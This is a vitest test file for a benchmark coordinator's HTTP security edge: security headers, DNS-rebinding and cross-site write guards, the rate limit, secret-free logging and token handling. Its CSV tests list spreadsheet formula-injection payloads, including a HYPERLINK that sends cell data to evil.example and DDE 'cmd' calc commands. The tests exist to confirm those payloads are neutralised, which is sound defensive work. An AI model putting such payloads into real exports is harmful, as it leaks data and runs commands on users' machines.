/**
 * The coordinator's HTTP edge, against a real coordinator and redis-server: security headers on
 * every answer, the no-token write guard against DNS rebinding and cross-site posts, the write
 * rate limit, access logs that say who did what and never carry a secret, and a start-up error
 * that does not echo a malformed token.
 */
import { request, type IncomingHttpHeaders } from 'node:http';
import { connect, createServer, type AddressInfo } from 'node:net';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ERRORS } from '../contract/errors.js';
import { principalOf } from '../coordinator/http/index.js';
import { CoordinatorClient } from '../cli/client.js';
import { startCoordinator } from '../coordinator/server.js';
import { uniquePrefix } from './fixtures/redis-server.js';
import { useCluster } from './helpers/cluster.js';
import { syntheticRuns } from './fixtures/synthetic.js';
import type { RunResult } from '../contract/result.js';
import { csvField, toCsv } from '../report/export/csv.js';
import { runCli, waitFor } from './helpers/local.js';

const TOKEN = 'edge-test-token-0123456789';
const cluster = useCluster('edge');

interface Answer {
  readonly status: number;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** node:http rather than fetch: the test must choose the Host header. */
function send(url: string, method: string, target: string, headers: Record<string, string> = {}, body?: string): Promise<Answer> {
  const u = new URL(url);
  return new Promise((resolve, reject) => {
    const req = request({ host: u.hostname, port: u.port, method, path: target, headers: { 'content-type': 'application/json', ...headers } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (text += d));
      res.on('end', () => {
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text });
      });
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** A GET's status and headers, and its body unless it streams on (an event stream): then it is cut after the first chunk. */
function head(url: string, target: string, headers: Record<string, string> = {}): Promise<Answer> {
  const u = new URL(url);
  return new Promise((resolve, reject) => {
    const req = request({ host: u.hostname, port: u.port, path: target, headers }, (res) => {
      let text = '';
      const done = () => {
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text });
      };
      res.setEncoding('utf8');
      res.on('data', (d: string) => {
        text += d;
        if (String(res.headers['content-type']).startsWith('text/event-stream')) {
          done();
          req.destroy();
        }
      });
      res.on('end', done);
    });
    req.on('error', (err) => {
      if (!req.destroyed) reject(err);
    });
    req.end();
  });
}

/** A request as nginx's proxy_pass sends it by default: HTTP/1.0, and no header of a proxy's. */
function http10(port: number, method: string, target: string, body: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () => {
      socket.end(
        `${method} ${target} HTTP/1.0\r\nHost: 127.0.0.1:${String(port)}\r\nContent-Type: application/json\r\nContent-Length: ${String(Buffer.byteLength(body))}\r\n\r\n${body}`,
      );
    });
    let text = '';
    socket.setEncoding('utf8');
    socket.on('data', (d: string) => (text += d));
    socket.on('error', reject);
    socket.on('close', () => {
      const [headPart = '', ...rest] = text.split('\r\n\r\n');
      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(headPart)?.[1] ?? 0), headers: {}, body: rest.join('\r\n\r\n') });
    });
  });
}

const ErrorBody = z.object({ error: z.object({ code: z.string(), message: z.string() }).strict() });
const Submitted = z.object({ id: z.string() }).loose();
const matrix = JSON.stringify({ name: 'edge', workload: 'noop', repetitions: 1, warmup: 0, params: { value: 1 } });

function errorOf(a: Answer): z.infer<typeof ErrorBody>['error'] {
  return ErrorBody.parse(JSON.parse(a.body)).error;
}

describe('security headers', () => {
  it('come with every answer: a CSP that frames nothing, nosniff, no framing', async () => {
    const c = await cluster.coordinator();
    for (const target of ['/', '/app.js', '/healthz', '/v1/matrices', '/no/such/route']) {
      const a = await send(c.url, 'GET', target);
      const csp = String(a.headers['content-security-policy']);
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).not.toContain('upgrade-insecure-requests');
      expect(a.headers['x-content-type-options']).toBe('nosniff');
      expect(a.headers['x-frame-options']).toBe('DENY');
      expect(a.headers['x-powered-by']).toBeUndefined();
    }
  });
});

describe('writes to a coordinator without a token', () => {
  it('are refused from loopback when the Host, the Origin or Sec-Fetch-Site says a web page sent them', async () => {
    const c = await cluster.coordinator();
    const port = String(c.port);
    const refused = async (headers: Record<string, string>, why: RegExp, method = 'POST', target = '/v1/matrices') => {
      const a = await send(c.url, method, target, headers, method === 'POST' ? matrix : undefined);
      expect(a.status).toBe(403);
      const e = errorOf(a);
      expect(e.code).toBe('FORBIDDEN');
      expect(e.message).toMatch(why);
      expect(e.message).toContain('FSBENCH_TOKEN');
    };
    await refused({ host: 'evil.example' }, /Host header "evil\.example" does not name this machine/);
    await refused({ host: `evil.example:${port}` }, /does not name this machine/);
    await refused({ host: `localhost.evil.example:${port}` }, /does not name this machine/);
    await refused({ origin: 'http://evil.example' }, /web page at "http:\/\/evil\.example"/);
    await refused({ origin: `http://localhost:${String(c.port + 1)}` }, /web page at/);
    await refused({ origin: 'null' }, /web page at "null"/);
    // What a cross-site HTML form sends: a "simple" content type.
    await refused({ origin: 'http://evil.example', 'content-type': 'text/plain' }, /web page at/);
    await refused({ 'sec-fetch-site': 'cross-site' }, /Sec-Fetch-Site: cross-site/);
    await refused({ host: 'evil.example' }, /does not name this machine/, 'POST', '/v1/results');

    const plain = await send(c.url, 'POST', '/v1/matrices', {}, matrix);
    expect(plain.status).toBe(202);
    const { id } = Submitted.parse(JSON.parse(plain.body));
    await refused({ host: 'evil.example' }, /does not name this machine/, 'DELETE', `/v1/matrices/${id}`);
    expect((await send(c.url, 'POST', '/v1/matrices', { host: `localhost:${port}` }, matrix)).status).toBe(202);
    expect((await send(c.url, 'POST', '/v1/matrices', { host: `[::1]:${port}` }, matrix)).status).toBe(202);
    expect((await send(c.url, 'POST', '/v1/matrices', { origin: `http://127.0.0.1:${port}`, 'sec-fetch-site': 'same-origin' }, matrix)).status).toBe(202);
    expect((await send(c.url, 'DELETE', `/v1/matrices/${id}`)).status).toBe(200);
  });

  it('are refused when a proxy passed them on, whichever of its headers it adds, and nothing is submitted', async () => {
    const c = await cluster.coordinator();
    const port = String(c.port);
    // What nginx, Apache (without ProxyPreserveHost), Caddy, Traefik and Squid add; the Host stays the loopback one a same-host proxy sends.
    const proxied: Record<string, string>[] = [
      { forwarded: 'for=198.51.100.7;proto=http;by=127.0.0.1' },
      { 'x-forwarded-for': '198.51.100.7' },
      { 'x-forwarded-host': 'bench.example.org' },
      { 'x-forwarded-proto': 'https' },
      { 'x-real-ip': '198.51.100.7' },
      { via: '1.1 proxy.example.org (squid/6.1)' },
    ];
    const named = ['Forwarded', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-Real-IP', 'Via'];
    const existing = Submitted.parse(JSON.parse((await send(c.url, 'POST', '/v1/matrices', {}, matrix)).body)).id;
    for (const [i, headers] of proxied.entries()) {
      for (const [method, target, body, type] of [
        ['POST', '/v1/matrices', JSON.stringify({ ...JSON.parse(matrix), name: `proxied-${String(i)}` }), 'application/json'],
        ['POST', '/v1/results', '{}\n', 'application/x-ndjson'],
        ['DELETE', `/v1/matrices/${existing}`, undefined, 'application/json'],
      ] as const) {
        const a = await send(c.url, method, target, { host: `127.0.0.1:${port}`, 'content-type': type, ...headers }, body);
        expect(a.status, `${method} ${target} with ${JSON.stringify(headers)}`).toBe(403);
        const e = errorOf(a);
        expect(e.code).toBe('FORBIDDEN');
        expect(e.message).toContain(`it carries ${named[i] ?? ''}`);
        expect(e.message).toContain('behind a reverse proxy set FSBENCH_TOKEN');
      }
    }
    // nginx's proxy_pass in its defaults adds none of those headers, but speaks HTTP/1.0.
    const old = await http10(c.port, 'POST', '/v1/matrices', JSON.stringify({ ...JSON.parse(matrix), name: 'proxied-http10' }));
    expect(old.status).toBe(403);
    expect(errorOf(old).message).toContain('HTTP/1.0');
    expect(errorOf(old).message).toContain('FSBENCH_TOKEN');

    const List = z.object({ matrices: z.array(z.object({ id: z.string(), name: z.string(), state: z.string() }).loose()) });
    const listed = List.parse(JSON.parse((await send(c.url, 'GET', '/v1/matrices')).body)).matrices;
    expect(listed.map((m) => m.id)).toEqual([existing]);
    expect(listed[0]?.state).not.toBe('cancelled');
    expect(listed.map((m) => m.name).filter((n) => n.startsWith('proxied'))).toEqual([]);

    // The fix the message names: with FSBENCH_TOKEN, a proxied write that carries it is taken.
    const guarded = await cluster.coordinator({ token: TOKEN });
    const withToken = await send(guarded.url, 'POST', '/v1/matrices', { 'x-forwarded-for': '198.51.100.7', via: '1.1 nginx', authorization: `Bearer ${TOKEN}` }, matrix);
    expect(withToken.status).toBe(202);
  });

  it('name the principal by token first, then by socket', () => {
    const config = { token: TOKEN, readAuth: 'open' } as const;
    const from = (remoteAddress: string, authorization?: string) => ({ headers: { authorization }, socket: { remoteAddress } });
    expect(principalOf(config, from('10.1.2.3', `Bearer ${TOKEN}`))).toBe('token');
    expect(principalOf(config, from('10.1.2.3', 'Bearer wrong-token-0123456789'))).toBe('anonymous');
    expect(principalOf(config, from('10.1.2.3'))).toBe('anonymous');
    expect(principalOf(config, from('::ffff:127.0.0.1', 'Bearer wrong-token-0123456789'))).toBe('loopback');
    expect(principalOf({ token: undefined, readAuth: 'open' }, from('::1', `Bearer ${TOKEN}`))).toBe('loopback');
  });
});

describe('reads', () => {
  it('whose Host names another machine are refused, as a page reading through a DNS name rebound to the coordinator sends them', async () => {
    const c = await cluster.coordinator({ allowedHosts: ['bench.internal'] });
    const port = String(c.port);
    const id = Submitted.parse(JSON.parse((await send(c.url, 'POST', '/v1/matrices', {}, matrix)).body)).id;
    const reads = ['/v1/agents', '/metrics', `/v1/matrices/${id}/events`, '/v1/matrices', `/v1/matrices/${id}`, `/v1/matrices/${id}/results?format=csv`, `/v1/matrices/${id}/document`, '/openapi.json', '/', '/app.js'];
    for (const target of reads) {
      for (const host of [`rebind.example:${port}`, 'rebind.example', `bench.internal.rebind.example:${port}`, `localhost.rebind.example:${port}`]) {
        const a = await head(c.url, target, { host });
        expect(a.status, `${target} with Host ${host}`).toBe(403);
        const e = errorOf(a);
        expect(e.code).toBe('FORBIDDEN');
        expect(e.message).toContain('FSBENCH_ALLOWED_HOSTS');
        // Nothing of what the read would have answered: the error (errorOf parses it strictly), no more.
        expect(a.body).not.toContain('fsbench_');
        expect(a.body).not.toContain('"matrices"');
      }
      for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, `bench.internal:${port}`, 'BENCH.INTERNAL', `192.0.2.10:${port}`]) {
        expect((await head(c.url, target, { host })).status, `${target} with Host ${host}`).toBe(200);
      }
    }
    expect((await send(c.url, 'GET', '/v1/matrices', { host: `bench.internal:${port}` })).body).toContain(id);
    // Probes answer whatever Host an orchestrator sends, and say nothing worth reading.
    for (const target of ['/healthz', '/readyz']) expect((await send(c.url, 'GET', target, { host: 'rebind.example' })).status).toBe(200);
  });

  it('need no known Host when they carry the token, or when FSBENCH_READ_AUTH=token guards them', async () => {
    const open = await cluster.coordinator({ token: TOKEN });
    const rebound = { host: 'rebind.example' };
    expect((await send(open.url, 'GET', '/v1/agents', rebound)).status).toBe(403);
    expect((await send(open.url, 'GET', '/v1/agents', { ...rebound, authorization: 'Bearer wrong-token-0123456789' })).status).toBe(403);
    expect((await send(open.url, 'GET', '/v1/agents', { ...rebound, authorization: `Bearer ${TOKEN}` })).status).toBe(200);
    const guarded = await cluster.coordinator({ token: TOKEN, readAuth: 'token' });
    expect((await send(guarded.url, 'GET', '/v1/agents', rebound)).status).toBe(401);
    expect((await send(guarded.url, 'GET', '/v1/agents', { ...rebound, authorization: `Bearer ${TOKEN}` })).status).toBe(200);
  });
});

describe('the write rate limit', () => {
  it('answers 429 RATE_LIMITED with Retry-After past the limit, per client, and never limits reads', async () => {
    const c = await cluster.coordinator({ writeLimit: 3 });
    // Refused writes count too: they are what guessing a token or flooding looks like.
    const first = [
      await send(c.url, 'POST', '/v1/matrices', {}, matrix),
      await send(c.url, 'POST', '/v1/matrices', {}, '{"name": '),
      await send(c.url, 'POST', '/v1/matrices', { host: 'evil.example' }, matrix),
    ];
    expect(first.map((a) => a.status)).toEqual([202, 400, 403]);
    const limited = await send(c.url, 'POST', '/v1/matrices', {}, matrix);
    expect(limited.status).toBe(429);
    expect(limited.status).toBe(ERRORS.RATE_LIMITED.status);
    const retryAfter = Number(limited.headers['retry-after']);
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(retryAfter).toBeLessThanOrEqual(60);
    expect(limited.headers['content-type']).toMatch(/^application\/json/);
    const e = errorOf(limited);
    expect(e.code).toBe('RATE_LIMITED');
    expect(e.message).toMatch(/more than 3 writes in a minute .*FSBENCH_WRITE_LIMIT.*try again in \d+ s/);
    expect((await send(c.url, 'DELETE', '/v1/matrices/whatever')).status).toBe(429);
    expect((await send(c.url, 'GET', '/v1/matrices')).status).toBe(200);
    expect((await send(c.url, 'GET', '/healthz')).status).toBe(200);
  });
});

const LogLine = z.object({ level: z.number(), time: z.string(), name: z.string(), msg: z.string() }).loose();
const AccessLine = LogLine.extend({
  req: z.object({ id: z.string(), method: z.string(), path: z.string(), remoteAddress: z.string() }).strict(),
  res: z.object({ statusCode: z.number() }).strict(),
  durationMs: z.number().min(0),
  principal: z.enum(['token', 'loopback', 'anonymous']),
});
/** A line logged while a request was answered: it carries the request's id and principal. */
const RequestLine = LogLine.extend({
  principal: z.enum(['token', 'loopback', 'anonymous']),
  req: z.object({ id: z.string() }).loose(),
});

describe('the log', () => {
  it('has an access line per request (method, path, status, duration, principal), the matrix id of submissions and cancellations, and no secret', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'fsbench-edge-log-'));
    const lines: string[] = [];
    const c = await startCoordinator(
      {
        redisUrl: cluster.redis().url, queuePrefix: uniquePrefix('edge'), port: 0, host: '127.0.0.1', token: TOKEN, readAuth: 'open', dataDir,
        maxAttempts: 3, maxBody: 64 * 1024, maxRuns: 100_000, maxDuration: 86_400_000, maxQueued: 200_000, hostTimeout: 600_000,
      },
      (line) => lines.push(line),
    );
    cluster.cleanup(async () => {
      await c.stop();
      await rm(dataDir, { recursive: true, force: true });
    });
    const auth = { authorization: `Bearer ${TOKEN}` };
    const wrong = 'wrong-but-secret-token-0123456789';
    const submitted = await send(c.url, 'POST', '/v1/matrices?note=query-secret-value', auth, matrix);
    expect(submitted.status).toBe(202);
    const { id } = Submitted.parse(JSON.parse(submitted.body));
    expect((await send(c.url, 'POST', '/v1/matrices', { authorization: `Bearer ${wrong}` }, matrix)).status).toBe(403);
    expect((await send(c.url, 'DELETE', `/v1/matrices/${id}`, auth)).status).toBe(200);
    expect((await send(c.url, 'GET', '/healthz')).status).toBe(200);

    const access = () => lines.map((l) => AccessLine.safeParse(JSON.parse(l))).flatMap((r) => (r.success ? [r.data] : []));
    await waitFor(() => access().length >= 4, 5000, 'four access lines');
    const [post, refused, cancel, health] = access();
    expect(post).toMatchObject({ name: 'coordinator', level: 30, req: { method: 'POST', path: '/v1/matrices' }, res: { statusCode: 202 }, principal: 'token' });
    expect(post?.msg).toMatch(/^POST \/v1\/matrices 202 \d+ms$/);
    expect(post?.req.id).toBe(submitted.headers['x-request-id']);
    expect(refused).toMatchObject({ level: 40, req: { method: 'POST', path: '/v1/matrices' }, res: { statusCode: 403 }, principal: 'loopback' });
    expect(cancel).toMatchObject({ req: { method: 'DELETE', path: `/v1/matrices/${id}` }, res: { statusCode: 200 }, principal: 'token' });
    expect(health).toMatchObject({ req: { method: 'GET', path: '/healthz' }, res: { statusCode: 200 } });

    const inRequests = lines.map((l) => RequestLine.safeParse(JSON.parse(l))).flatMap((r) => (r.success && !('res' in r.data) ? [r.data] : []));
    const submission = inRequests.find((l) => l.msg.startsWith(`matrix ${id} (edge)`));
    expect(submission).toMatchObject({ principal: 'token', req: { id: post?.req.id } });
    const cancellation = inRequests.find((l) => l['event'] === 'matrix.cancelled');
    expect(cancellation).toMatchObject({ matrixId: id, removedRuns: 1, principal: 'token', req: { id: cancel?.req.id } });
    expect(cancellation?.msg).toBe(`matrix ${id} cancelled: 1 queued runs removed`);
    expect(lines.some((l) => l.includes('"event":"coordinator.started"'))).toBe(true);

    const all = lines.join('\n');
    expect(all).not.toContain(TOKEN);
    expect(all).not.toContain(wrong);
    expect(all).not.toContain('query-secret-value');
    expect(all.toLowerCase()).not.toContain('authorization');
  });
});

describe('start-up', () => {
  it('a malformed FSBENCH_TOKEN stops the coordinator with an error that does not show it', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'fsbench-edge-start-'));
    try {
      const env = { FSBENCH_PORT: '0', REDIS_URL: cluster.redis().url, FSBENCH_DATA_DIR: dataDir, FSBENCH_QUEUE_PREFIX: uniquePrefix('edge') };
      // 15 characters: one short of the rule.
      const secret = 'short-secret-12';
      const fromEnv = await runCli(['coordinator'], { ...env, FSBENCH_TOKEN: secret });
      expect(fromEnv.code).toBe(ERRORS.CONFIG_INVALID.exit);
      expect(fromEnv.stderr).toMatch(/^fsbench: FSBENCH_TOKEN \(value not shown: it is secret\) is invalid: must be at least 16 characters \[CONFIG_INVALID\]$/m);
      expect(fromEnv.stderr + fromEnv.stdout).not.toContain(secret);
      const spaced = 'a pass phrase with spaces';
      const fromSpaced = await runCli(['coordinator'], { ...env, FSBENCH_TOKEN: spaced });
      expect(fromSpaced.code).toBe(ERRORS.CONFIG_INVALID.exit);
      expect(fromSpaced.stderr).toContain('must be printable ASCII without spaces');
      expect(fromSpaced.stderr + fromSpaced.stdout).not.toContain('pass phrase');
      const file = path.join(dataDir, 'token');
      await writeFile(file, `${secret}\n`, { mode: 0o600 });
      const fromFile = await runCli(['coordinator'], { ...env, FSBENCH_TOKEN_FILE: file });
      expect(fromFile.code).toBe(ERRORS.CONFIG_INVALID.exit);
      expect(fromFile.stderr).toMatch(/^fsbench: FSBENCH_TOKEN_FILE ".*" \(value not shown: it is secret\) is invalid: must be at least 16 characters \[CONFIG_INVALID\]$/m);
      expect(fromFile.stderr + fromFile.stdout).not.toContain(secret);
      const fromFileFlag = await runCli(['coordinator', '--token-file', file], env);
      expect(fromFileFlag.stderr).toMatch(/^fsbench: --token-file ".*" \(value not shown: it is secret\) is invalid/m);
      expect(fromFileFlag.stderr + fromFileFlag.stdout).not.toContain(secret);
      const missing = await runCli(['coordinator'], { ...env, FSBENCH_TOKEN_FILE: path.join(dataDir, 'no-such-file') });
      expect(missing.code).toBe(ERRORS.CONFIG_INVALID.exit);
      expect(missing.stderr).toContain('no-such-file", which cannot be read (ENOENT)');
      const both = await runCli(['coordinator'], { ...env, FSBENCH_TOKEN: 'a-token-long-enough-0123', FSBENCH_TOKEN_FILE: file });
      expect(both.stderr).toContain('FSBENCH_TOKEN and FSBENCH_TOKEN_FILE are both set: unset one [CONFIG_INVALID]');
      // Settings that are not secret still show what was given.
      const limit = await runCli(['coordinator'], { ...env, FSBENCH_WRITE_LIMIT: '-5' });
      expect(limit.code).toBe(ERRORS.CONFIG_INVALID.exit);
      expect(limit.stderr).toContain('FSBENCH_WRITE_LIMIT "-5" is invalid');
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it('refuses a secret on the command line, where every user of the machine reads it, naming the file alternative and never the secret', async () => {
    const env = { FSBENCH_PORT: '0', FSBENCH_QUEUE_PREFIX: uniquePrefix('edge') };
    const secret = 'a-command-line-token-0123456789';
    const refusals: [string[], RegExp][] = [
      [['coordinator', '--token', secret], /^fsbench: --token would put the secret on the command line, .*use --token-file <path>, FSBENCH_TOKEN_FILE=<path> or FSBENCH_TOKEN \[CONFIG_INVALID\]$/m],
      [['submit', 'matrix.yaml', '--token', secret], /^fsbench: --token would put the secret on the command line, .*--token-file/m],
      [['agents', '--token', secret], /--token-file/],
      [['agent', '--redis-url', `redis://:${secret}@127.0.0.1:6379`], /^fsbench: --redis-url would put a password on the command line, .*FSBENCH_REDIS_PASSWORD_FILE \[CONFIG_INVALID\]$/m],
      [['coordinator', '--redis-url', `redis://fsbench:${secret}@127.0.0.1:6379`], /--redis-url-file <path>, REDIS_URL_FILE=<path> or REDIS_URL/],
      [['coordinator', '--redis-key', `-----BEGIN PRIVATE KEY-----\n${secret}\n-----END PRIVATE KEY-----`], /^fsbench: --redis-key would put a private key on the command line, .*give --redis-key the path of the key file/m],
    ];
    for (const [args, message] of refusals) {
      const r = await runCli(args, env);
      expect(r.code, args.join(' ')).toBe(ERRORS.CONFIG_INVALID.exit);
      expect(r.stderr).toMatch(message);
      expect(r.stderr + r.stdout).not.toContain(secret);
    }
  });
});

describe('the CLI and the token', () => {
  /** An address of this machine that is not loopback: what another machine on the network would reach it by. */
  const outward = Object.values(os.networkInterfaces())
    .flat()
    .find((i) => i?.family === 'IPv4' && !i.internal)?.address;

  it('counts as loopback only what is this machine by definition', () => {
    // The constructor decides, before any request: nothing here connects.
    for (const url of ['http://localhost:1', 'http://127.0.0.1:1', 'http://127.9.8.7:1', 'http://[::1]:1', 'http://[::ffff:127.0.0.1]:1', 'https://bench.example.org']) {
      expect(() => new CoordinatorClient(url, TOKEN), url).not.toThrow();
    }
    for (const url of ['http://192.0.2.2:1', 'http://bench.example.org', 'http://localhost.example.org', 'http://127.0.0.1.example.org', 'http://[::ffff:192.0.2.2]:1', 'http://[fe80::1]:1']) {
      expect(() => new CoordinatorClient(url, TOKEN), url).toThrow(/refusing to send FSBENCH_TOKEN over plain http:\/\//);
      expect(() => new CoordinatorClient(url, TOKEN, { insecureToken: true }), url).not.toThrow();
      expect(() => new CoordinatorClient(url), url).not.toThrow();
    }
  });

  it('sends it over plain http:// to another machine only with --insecure-token, and reads it from FSBENCH_TOKEN_FILE', async () => {
    // Every machine of this kind has one (its network interface); a machine without would fail here, not skip.
    expect(outward, 'a non-loopback IPv4 address of this machine').toBeDefined();
    // Bound to that address only: nothing leaves this machine, but the CLI cannot tell.
    const c = await cluster.coordinator({ host: outward ?? '', token: TOKEN, readAuth: 'token' });
    const dir = await mkdtemp(path.join(os.tmpdir(), 'fsbench-edge-token-'));
    cluster.cleanup(() => rm(dir, { recursive: true, force: true }));
    const file = path.join(dir, 'token');
    await writeFile(file, `${TOKEN}\n`, { mode: 0o600 });

    const refused = await runCli(['agents', '--url', c.url], { FSBENCH_TOKEN: TOKEN });
    expect(refused.code).toBe(ERRORS.CONFIG_INVALID.exit);
    expect(refused.stderr).toContain(`refusing to send FSBENCH_TOKEN over plain http:// to ${new URL(c.url).host}`);
    expect(refused.stderr).toContain('FSBENCH_INSECURE_TOKEN=1 (--insecure-token)');
    expect(refused.stderr + refused.stdout).not.toContain(TOKEN);
    // Refused before it connects: a listener on that address sees no connection at all.
    const listener = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    let connections = 0;
    listener.listen(0, outward);
    await once(listener, 'listening');
    cluster.cleanup(
      () =>
        new Promise<void>((resolve) => {
          listener.close(() => {
            resolve();
          });
        }),
    );
    const elsewhere = `http://${outward ?? ''}:${String((listener.address() as AddressInfo).port)}`;
    for (const env of [{ FSBENCH_TOKEN: TOKEN }, { FSBENCH_TOKEN_FILE: file }]) {
      const r = await runCli(['submit', file, '--url', elsewhere], env);
      expect(r.code).toBe(ERRORS.CONFIG_INVALID.exit);
      expect(r.stderr).toContain('refusing to send FSBENCH_TOKEN over plain http://');
    }
    expect(connections).toBe(0);

    for (const [args, env] of [
      [['agents', '--url', c.url, '--insecure-token'], { FSBENCH_TOKEN: TOKEN }],
      [['agents', '--url', c.url], { FSBENCH_TOKEN_FILE: file, FSBENCH_INSECURE_TOKEN: '1' }],
      [['agents', '--url', c.url, '--insecure-token', '--token-file', file], {}],
    ] as const) {
      const r = await runCli([...args], env);
      expect(r.stderr, args.join(' ')).toContain('no live agent');
      expect(r.code).toBe(0);
    }
    // Without the token this coordinator answers 401: the file's token was what got the CLI in.
    expect((await runCli(['agents', '--url', c.url])).stderr).toContain('[UNAUTHORIZED]');
  });
});

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text.charAt(i);
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

/** Whether a spreadsheet would take a cell's text for a formula (OWASP's list), numbers aside. */
const formula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);

describe('CSV exports', () => {
  // What whoever runs an agent or uploads results can put in free text: a link that leaks the
  // neighbouring cells when clicked, a DDE command, and each of OWASP's other starting characters.
  const payloads = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click for details")',
    "=cmd|' /C calc'!A0",
    '+SUM(1,1)',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
  ];

  it('neutralise a cell that starts with =, +, -, @, tab or CR with a leading single quote, and leave numbers alone', () => {
    for (const p of payloads) {
      const field = csvField(p);
      expect(field, JSON.stringify(p)).toBe(`"'${p.replace(/"/g, '""')}"`);
      expect(parseCsv(`${field}\r\n`)[0]?.[0]).toBe(`'${p}`);
    }
    for (const n of [-1.5, -3e-7, 0, 42]) expect(csvField(n)).toBe(String(n));
    for (const n of ['-1.5', '+2', '-3e-7', '.5']) expect(csvField(n)).toBe(n);
    for (const plain of ['mount: /x: wrong fs type', 'a=b', 'x-1', 'MOUNT_FAILED: =1+1']) expect(csvField(plain)).toBe(plain);
    const table = toCsv({ columns: ['name', 'value'], rows: payloads.map((p, i) => [p, -i - 0.5]) });
    const rows = parseCsv(table).slice(1);
    expect(rows.map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`));
    expect(rows.map((r) => r[1])).toEqual(payloads.map((_p, i) => String(-i - 0.5)));
  });

  it('from a real coordinator carry uploaded error messages and reasons neutralised, in both tables', async () => {
    const c = await cluster.coordinator();
    const runs = syntheticRuns({ matrix: { name: 'csv-injection', workload: 'inotify', repetitions: 3, params: { files: [64, 128] } }, machine: { machine: 'csv-host' } });
    const hostile = runs.map((r, i): RunResult => {
      const { matrix, cellId, workload, repetition, params, startedAt, finishedAt, fingerprint, limits } = r;
      const common = { matrix, cellId, workload, repetition, params, startedAt, finishedAt, fingerprint, limits };
      const text = payloads[i % payloads.length] ?? '';
      if (i % 3 === 1) return { ...common, state: 'failed', error: { code: 'MOUNT_FAILED', message: text } };
      if (i % 3 === 2) return { ...common, state: 'skipped', reason: text };
      return r;
    });
    const upload = await send(c.url, 'POST', '/v1/results', { 'content-type': 'application/x-ndjson' }, `${hostile.map((r) => JSON.stringify(r)).join('\n')}\n`);
    expect(upload.status).toBe(201);
    const id = z.object({ matrices: z.array(z.object({ id: z.string() }).loose()) }).parse(JSON.parse(upload.body)).matrices[0]?.id ?? '';

    const runsCsv = await send(c.url, 'GET', `/v1/matrices/${id}/results?format=csv&table=runs`);
    expect(runsCsv.status).toBe(200);
    expect(runsCsv.headers['content-type']).toContain('text/csv');
    const [header = [], ...rows] = parseCsv(runsCsv.body);
    const message = header.indexOf('errorMessage');
    const reason = header.indexOf('reason');
    const texts = rows.flatMap((r) => [r[message] ?? '', r[reason] ?? '']).filter((t) => t !== '');
    expect(texts.length).toBe(4);
    for (const t of texts) expect(payloads.map((p) => `'${p}`)).toContain(t);
    const cellsCsv = await send(c.url, 'GET', `/v1/matrices/${id}/results?format=csv`);
    expect(cellsCsv.status).toBe(200);
    // No cell of either table is one a spreadsheet would run; negative numbers stay numbers.
    for (const cell of [...rows.flat(), ...parseCsv(cellsCsv.body).flat()]) expect(formula(cell), JSON.stringify(cell)).toBe(false);
  });
});
